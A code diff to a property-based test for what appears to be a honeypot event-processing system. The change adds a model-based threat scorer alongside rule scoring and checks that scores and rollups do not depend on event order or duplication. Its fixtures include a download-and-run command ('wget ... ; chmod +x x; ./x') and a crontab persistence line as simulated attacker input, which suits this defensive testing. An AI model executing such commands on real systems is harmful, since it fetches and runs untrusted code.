@@ -1,19 +1,26 @@
+import { readFileSync } from 'node:fs'
 import type { Event } from '@eviltwin/contract'
 import fc from 'fast-check'
-import { expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import type { SessionRow } from '../../domain/session.js'
 import { anEvent } from '../../testing/events.js'
 import { realLines } from '../../testing/real-data.js'
+import { createModelScorer } from '../scoring/model-scorer.js'
+import { THREAT_MODEL } from '../scoring/models/model-file.js'
 import { createRuleScorer } from '../scoring/rules.js'
+import type { Scorer } from '../scoring/scorer.js'
+import { parseThreatModel } from '../scoring/threat-model.js'
 import { Rejection } from '../sensors/adapters/adapter.js'
 import { normalize } from '../sensors/adapters/normalize.js'
 import { planCommit } from './commit-plan.js'
 import type { CommitPlan } from './commit-rows.js'
 
-const scorer = createRuleScorer()
+/** Rules, and the model that ships: a score depends on the session's own events, whoever gives it. */
+const SCORERS = [createRuleScorer(), createModelScorer(parseThreatModel(readFileSync(THREAT_MODEL, 'utf8')))]
+const [scorer] = SCORERS as [Scorer]
 
 /** What a store holds after committing the groups one after another: the meaning of the SQL, in a few lines. */
-function storeAfter(groups: readonly Event[][]) {
+function storeAfter(groups: readonly Event[][], scorer: Scorer) {
   const known = new Set<string>()
   const sessions = new Map<string, SessionRow>()
   const totals = new Map<string, number>()
@@ -95,7 +102,13 @@ const arbitraryEvent = fc
       'other',
     ),
     outcome: fc.constantFrom('success', 'failure', null),
-    command: fc.constantFrom(null, 'uname -a', 'wget http://192.0.2.1/x; chmod +x x; ./x', 'crontab -l'),
+    command: fc.constantFrom(
+      null,
+      'uname -a',
+      'echo x | crontab -',
+      'wget http://192.0.2.1/x; chmod +x x; ./x',
+      'crontab -l',
+    ),
     source_ip: fc.constantFrom('203.0.113.7', '203.0.113.8'),
     session_key: fc.constantFrom('s1', 's2', 's3'),
     sensor_id: fc.constantFrom('cowrie-1', 'cowrie-2'),
@@ -104,31 +117,52 @@ const arbitraryEvent = fc
   })
   .map((details) => anEvent(details as Parameters<typeof anEvent>[0]))
 
-test('any order, any repetition and any grouping of events gives the same sessions, attackers and rollups', () => {
-  const events = fc.uniqueArray(arbitraryEvent, { minLength: 1, maxLength: 40, selector: ({ id }) => id })
-  const cases = events.chain((list) => fc.tuple(fc.constant(list), disorderOf(list)))
-  fc.assert(
-    fc.property(cases, ([list, groups]) => {
-      expect(storeAfter(groups)).toEqual(storeAfter([list]))
-    }),
-    { numRuns: 200 },
-  )
-})
+test.each(SCORERS)(
+  'any order, repetition and grouping of events gives the same scores, sessions, attackers and rollups by $name',
+  (scorer) => {
+    const events = fc.uniqueArray(arbitraryEvent, { minLength: 1, maxLength: 40, selector: ({ id }) => id })
+    const cases = events.chain((list) => fc.tuple(fc.constant(list), disorderOf(list)))
+    fc.assert(
+      fc.property(cases, ([list, groups]) => {
+        expect(storeAfter(groups, scorer)).toEqual(storeAfter([list], scorer))
+      }),
+      { numRuns: 200 },
+    )
+  },
+)
 
-test.runIf(realLines('cowrie').length > 0)('so does a real day, shuffled and partly sent twice', () => {
+describe.runIf(realLines('cowrie').length > 0)('a real day, shuffled and partly sent twice', () => {
   const events = realLines('cowrie')
     .slice(0, 1500)
     .flatMap((line) => {
       const result = normalize(JSON.parse(line), line, { received_at: '2026-11-24T12:00:00.000000Z' })
       return result instanceof Rejection ? [] : result
     })
-  const expected = storeAfter([events])
-  fc.assert(
-    fc.property(disorderOf(events), (groups) => {
-      expect(storeAfter(groups)).toEqual(expected)
-    }),
-    { numRuns: 5 },
-  )
+
+  test.each(SCORERS)('gives the same by $name', (scorer) => {
+    const expected = storeAfter([events], scorer)
+    fc.assert(
+      fc.property(disorderOf(events), (groups) => {
+        expect(storeAfter(groups, scorer)).toEqual(expected)
+      }),
+      { numRuns: 5 },
+    )
+  })
+
+  test('scores a session the same, whatever else its attacker did', () => {
+    const own = new Map<string, Event[]>()
+    for (const event of events) own.set(event.session_id, [...(own.get(event.session_id) ?? []), event])
+    const scores = new Map(
+      planCommit(events, new Map(), SCORERS[1] as Scorer).sessions.map((each) => [
+        each.id,
+        each.threat_score,
+      ]),
+    )
+    for (const [id, alone] of own) {
+      const [session] = planCommit(alone, new Map(), SCORERS[1] as Scorer).sessions
+      expect(session?.threat_score).toBe(scores.get(id))
+    }
+  })
 })
 
 test('a session moves between rollup rows when it becomes graver or starts earlier than was known', () => {
